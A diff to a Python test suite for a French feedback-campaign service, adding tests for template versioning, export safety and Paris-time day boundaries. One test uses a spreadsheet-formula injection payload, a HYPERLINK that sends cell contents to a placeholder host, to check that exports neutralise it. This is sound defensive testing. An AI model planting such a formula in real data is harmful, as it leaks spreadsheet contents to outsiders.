@@ -12,7 +12,7 @@ import pytest
 import sqlalchemy as sa
 
 from lib.access import Role
-from lib.domain import forms
+from lib.domain import clock, forms
 from lib.domain.errors import NotFound, PermissionDenied, ValidationFailed
 from lib.services import feedback
 from lib.services.feedback import CampaignState, CampaignUnavailable
@@ -28,7 +28,7 @@ from tests.factories import (
     make_territory,
 )
 
-TODAY = feedback.today_local()
+TODAY = clock.today()
 VALID = {"mood": 4, "topics": ["food", "energy"], "story": "Bien", "partners": 2, "outcome": "agreed"}
 
 
@@ -69,13 +69,32 @@ def test_shipped_templates_are_stored_once(engine):
     assert count_rows(engine, t.form_template) == len(forms.load_templates())
 
 
-def test_editing_an_unanswered_template_changes_it_in_place(world):
+def test_a_coordinator_rewording_keeps_the_shipped_version_then_refines_their_own_in_place(world):
     engine = world["engine"]
     edited = copy.deepcopy(SHORT_TEMPLATE)
     edited["title"]["fr"] = "Essai court, reformulé"
-    assert feedback.edit_template(engine, world["coordinator"], edited)[1] == 1
+    assert feedback.edit_template(engine, world["coordinator"], edited)[1] == 2
+    edited["title"]["fr"] = "Essai court, reformulé encore"
+    assert feedback.edit_template(engine, world["coordinator"], edited)[1] == 2  # nobody answered v2
     rows = _template_rows(engine, "essai-court")
-    assert [(r.version, r.title_fr) for r in rows] == [(1, "Essai court, reformulé")]
+    assert [(r.version, r.title_fr) for r in rows] == [
+        (1, "Essai court"),
+        (2, "Essai court, reformulé encore"),
+    ]
+
+
+def test_restarting_the_app_never_undoes_a_coordinators_wording(engine):
+    feedback.ensure_templates(engine)
+    shipped = next(tpl for tpl in forms.load_templates() if tpl.slug == "raconter-la-cooperation")
+    coordinator = make_actor(engine, Role.COORDINATOR, None)
+    edited = copy.deepcopy(shipped.raw)
+    edited["title"]["fr"] = "Raconter notre coopération"
+    _, version = feedback.edit_template(engine, coordinator, edited)
+
+    feedback.ensure_templates(engine)  # what every start of the app does
+
+    newest = _template_rows(engine, "raconter-la-cooperation")[-1]
+    assert (newest.version, newest.title_fr) == (version, "Raconter notre coopération")
 
 
 def test_editing_an_answered_template_makes_a_new_version_and_keeps_the_old_one(world):
@@ -396,3 +415,50 @@ def test_store_lists_campaigns_with_their_submitted_counts(world):
         rows = store.list_campaigns(conn, [world["here"]])
         assert store.list_campaigns(conn, [world["elsewhere"]]) == []
     assert [(r.id, r.submitted_count) for r in rows] == [(campaign_id, 1)]
+
+
+def test_exports_never_turn_typed_text_into_a_spreadsheet_formula(world):
+    engine, campaign_id = world["engine"], world["campaign_id"]
+    attack = '=HYPERLINK("http://example.invalid/?d="&A2,"Cliquez")'
+    make_response(engine, campaign_id, "inhabitant", {"mood": 2, "story": attack})
+    make_response(engine, campaign_id, "other", {"mood": 3, "story": "-1 ou +1, selon"})
+
+    csv_rows = feedback.export_csv(engine, world["admin"], campaign_id).decode("utf-8-sig").splitlines()
+    stories = [row.split(";")[7] for row in csv_rows[1:]]
+    assert all(story.lstrip('"').startswith("'") for story in stories), stories
+
+    book = openpyxl.load_workbook(io.BytesIO(feedback.export_xlsx(engine, world["admin"], campaign_id)))
+    header, *rows = list(book["reponses"].iter_rows())
+    column = [cell.value for cell in header].index("story")
+    cells = [row[column] for row in rows]
+    assert [cell.data_type for cell in cells] == ["s", "s"]  # text, never "f" (a formula)
+    assert {cell.value for cell in cells} == {"'" + attack, "'-1 ou +1, selon"}
+
+
+def test_a_period_is_a_french_day_in_results_and_exports(world):
+    engine, campaign_id = world["engine"], world["campaign_id"]
+    # 23:30 UTC on 9 March is 00:30 on 10 March in Paris (UTC+1 in winter).
+    make_response(
+        engine, campaign_id, "inhabitant", {"mood": 4}, submitted_at=datetime(2026, 3, 9, 23, 30, tzinfo=UTC)
+    )
+    make_response(
+        engine, campaign_id, "other", {"mood": 2}, submitted_at=datetime(2026, 3, 9, 22, 30, tzinfo=UTC)
+    )
+
+    tenth = feedback.results(
+        engine, world["admin"], campaign_id, start=date(2026, 3, 10), end=date(2026, 3, 10)
+    )
+    assert tenth.submitted == 1
+    assert list(tenth.counts["day"].dt.date) == [date(2026, 3, 10)]
+    assert list(tenth.counts["role"]) == ["inhabitant"]
+    both = feedback.results(
+        engine, world["admin"], campaign_id, start=date(2026, 3, 9), end=date(2026, 3, 10)
+    )
+    assert sorted(zip(both.counts["day"].dt.date, both.counts["role"], strict=True)) == [
+        (date(2026, 3, 9), "other"),
+        (date(2026, 3, 10), "inhabitant"),
+    ]
+    _, _, table = feedback.export_table(
+        engine, world["admin"], campaign_id, date(2026, 3, 10), date(2026, 3, 10)
+    )
+    assert list(table["role"]) == ["inhabitant"]
